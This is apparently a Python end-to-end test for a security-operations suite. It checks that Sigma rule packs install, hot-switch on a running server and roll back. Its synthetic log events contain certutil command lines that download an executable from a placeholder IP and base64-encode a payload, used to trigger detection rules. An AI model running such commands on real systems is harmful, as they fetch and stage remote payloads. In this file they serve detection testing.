"""Rule packs end to end, as an operator meets them: `soc rules install` of an archive built from the corpus's SigmaHQ
folders, a real `soc serve` running, a second version installed (a rule removed, one added, one changed, one broken):
the change report says so, the running suite switches without a restart (its API's rule list, and an event over HTTP
ingest that only the added rule detects), then `soc rules rollback` and the suite switches back."""

from __future__ import annotations

import copy
import hashlib
import json
import os
import signal
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import httpx
import yaml

from soc.storage import AlertQuery, open_store
from soc_api.keys import create_key
from suite.settings import load_settings
from tests.conftest import CORPUS, PROJECT, free_port, wait_for
from tests.ingest_samples import WINLOGBEAT_4688

PROCESS_CREATION = CORPUS / "sigmahq" / "rules" / "windows" / "process_creation"
ENCODE = "e62a9f0c-ca1e-46b2-85d5-a6da77f86d1a"  # File Encoded To Base64 Via Certutil.EXE: v1 only
DIRECT_IP = "13e6fe51-d478-4c7e-b0f2-6da9b400a829"  # Suspicious File Downloaded From Direct IP: v2 only
DECODE = "cc9cbe82-7bc0-4ef5-bc23-bbfb83947be7"  # File Decoded From Base64/Hex Via Certutil.EXE: changed in v2
BROKEN = "0bad0000-0000-4000-8000-0000000000b2"
AGENCY = "so-tttt"


def _subset() -> list[Path]:
    """A few dozen process-creation rules, none of which catches the test's events but the ones named above."""
    chosen = sorted(p for p in PROCESS_CREATION.glob("proc_creation_win_*.yml")
                    if "certutil" not in p.name and "bitsadmin" not in p.name)[:30]
    return chosen + [PROCESS_CREATION / f"proc_creation_win_certutil_{n}.yml" for n in ("encode", "decode")]


def _release(folder: Path, files: list[Path], extra: dict[str, str] | None = None) -> Path:
    rules = folder / "rules" / "windows" / "process_creation"
    rules.mkdir(parents=True)
    for path in files:
        (rules / path.name).write_bytes(path.read_bytes())
    for name, text in (extra or {}).items():
        (rules / name).write_text(text, encoding="utf-8")
    (folder / "LICENSE.Detection.Rules.md").write_text("DRL 1.1\n")
    return folder


def _config(tmp_path: Path) -> Path:
    path = tmp_path / "soc.yaml"
    path.write_text(yaml.safe_dump({
        "data_dir": str(tmp_path / "data"),
        "store": {"url": f"sqlite:///{tmp_path / 'soc.db'}"},
        "syslog": {"host": "127.0.0.1", "udp_port": free_port(), "tcp_port": free_port()},
        "api": {"host": "127.0.0.1", "port": free_port()},
        "extensions": [],
        "reports": {"schedule_enabled": False},
        "pipeline": {"flush_interval_seconds": 0.05},
        "detections": {"rules_reload_interval_seconds": 0.3},
    }))
    return path


def _soc(config: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "suite.cli", *args, "--config", str(config)], capture_output=True,
                          text=True, cwd=PROJECT, timeout=300, env=_env())


def _env() -> dict:
    return {k: v for k, v in os.environ.items() if not k.startswith("SOC__")}


def _event(record: int, command: str) -> dict:
    doc = copy.deepcopy(WINLOGBEAT_4688)
    doc["winlog"]["record_id"] = str(record)
    doc["winlog"]["event_data"]["CommandLine"] = command
    doc["@timestamp"] = f"2024-05-02T02:14:{record:02d}.000Z"
    return doc


def test_install_hot_switch_and_rollback_under_a_running_suite(tmp_path):
    config = _config(tmp_path)
    settings = load_settings(config, environ={})
    files = _subset()
    v1 = tmp_path / "sigma_v1.zip"
    with zipfile.ZipFile(v1, "w", zipfile.ZIP_DEFLATED) as out:
        source = _release(tmp_path / "v1", files)
        for path in sorted(source.rglob("*")):
            out.write(path, path.relative_to(source).as_posix())
    decode = (PROCESS_CREATION / "proc_creation_win_certutil_decode.yml").read_text()
    v2_source = _release(tmp_path / "v2", [f for f in files if "certutil" not in f.name] +
                         [PROCESS_CREATION / "proc_creation_win_certutil_download_direct_ip.yml"], {
        "proc_creation_win_certutil_decode.yml": decode.replace("level: high", "level: critical"),
        "broken.yml": f"title: Broken On Purpose\nid: {BROKEN}\nstatus: test\nlevel: high\n"
                      "logsource: {product: windows, category: process_creation}\n"
                      "detection: {sel: {Image|nosuchmodifier: x}, condition: sel}\n"})
    v2 = tmp_path / "sigma_v2.tar.gz"
    with tarfile.open(v2, "w:gz") as out:
        out.add(v2_source, arcname=".")
    (tmp_path / "sigma_v2.tar.gz.sha256").write_text(f"{hashlib.sha256(v2.read_bytes()).hexdigest()}  "
                                                     "sigma_v2.tar.gz\n")

    first = _soc(config, "rules", "install", str(v1), "--sha256", hashlib.sha256(v1.read_bytes()).hexdigest(),
                 "--json")
    assert first.returncode == 0, first.stderr
    one = json.loads(first.stdout)
    assert one["checked_by"] == "--sha256" and one["rule_files"] == len(files) and one["ignored"] == 1

    store = open_store(settings)
    try:
        analyst = create_key(store, "analyst", name="e2e")[0]
        agency = create_key(store, "agency", agency=AGENCY, name="e2e")[0]
    finally:
        store.close()
    log = (tmp_path / "serve.log").open("ab")
    serve = subprocess.Popen([sys.executable, "-m", "suite.cli", "serve", "--config", str(config)], stdout=log,
                             stderr=log, cwd=PROJECT, env=_env())
    api = httpx.Client(base_url=f"http://127.0.0.1:{settings.api.port}/api/v1", timeout=10)
    try:
        wait_for(lambda: _answers(api), 90, "soc serve to answer")

        def get(path):
            answer = api.get(path, headers={"X-API-Key": analyst})
            assert answer.status_code == 200, answer.text
            return answer.json()

        def sigma_rules():
            return {r["id"]: r for r in get("/rules")["rules"] if r["engine"] == "sigma"}

        def alerts(rule_id):
            s = open_store(settings)
            try:
                return s.list_alerts(AlertQuery(rule_id=rule_id, limit=10))
            finally:
                s.close()

        def send(*docs):
            body = b"".join(json.dumps(d).encode() + b"\n" for d in docs)
            answer = api.post("/ingest", content=body, headers={"X-API-Key": agency,
                                                                "Content-Type": "application/x-ndjson"})
            assert answer.status_code == 202, answer.text

        assert get("/rules/packs")["active"] == one["installed"]
        running = sigma_rules()
        assert ENCODE in running and DIRECT_IP not in running and get("/rules")["pack"] == one["installed"]

        # Version 2, with its checksum file beside it: the change report.
        second = _soc(config, "rules", "install", str(v2), "--json")
        assert second.returncode == 0, second.stderr
        two = json.loads(second.stdout)
        assert two["checked_by"] == "sigma_v2.tar.gz.sha256" and two["previous"] == one["installed"]
        changes = two["changes"]
        assert [c["id"] for c in changes["removed"]] == [ENCODE]
        assert sorted(c["id"] for c in changes["added"]) == sorted([DIRECT_IP, BROKEN])
        assert [c["id"] for c in changes["changed"]] == [DECODE]
        [broken] = changes["failing"]
        assert broken["id"] == BROKEN and broken["new"] and "nosuchmodifier" in broken["reason"]

        # The running suite switches by itself, and ingest detects with the new rules.
        wait_for(lambda: get("/rules/packs")["active"] == two["installed"], 60, "the switch to v2")
        running = sigma_rules()
        assert DIRECT_IP in running and ENCODE not in running and running[BROKEN]["status"] == "failed"
        send(_event(1, "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe"),
             _event(2, "certutil.exe -encode payload.exe payload.b64"))
        wait_for(lambda: alerts(DIRECT_IP), 60, "the alert only a v2 rule raises")
        assert alerts(ENCODE) == []

        # Rollback: the suite goes back to v1.
        back = _soc(config, "rules", "rollback", "--json")
        assert back.returncode == 0, back.stderr
        assert json.loads(back.stdout)["current"] == one["installed"]
        wait_for(lambda: get("/rules/packs")["active"] == one["installed"], 60, "the switch back to v1")
        running = sigma_rules()
        assert ENCODE in running and DIRECT_IP not in running and BROKEN not in running
        send(_event(3, "certutil.exe -urlcache -split -f http://203.0.113.9/b.exe b.exe"),
             _event(4, "certutil.exe -encode other.exe other.b64"))
        wait_for(lambda: alerts(ENCODE), 60, "the alert of the v1 rule back in use")
        assert sum(a["count"] for a in alerts(DIRECT_IP)) == 1  # the second download went by undetected
        assert serve.poll() is None  # never restarted
    finally:
        api.close()
        serve.send_signal(signal.SIGTERM)
        code = serve.wait(timeout=60)
        log.close()
    assert code == 0, (tmp_path / "serve.log").read_text()
    assert "rule pack" in (tmp_path / "serve.log").read_text()


def _answers(api: httpx.Client) -> bool:
    try:
        return api.get("/health").status_code == 200
    except httpx.HTTPError:
        return False
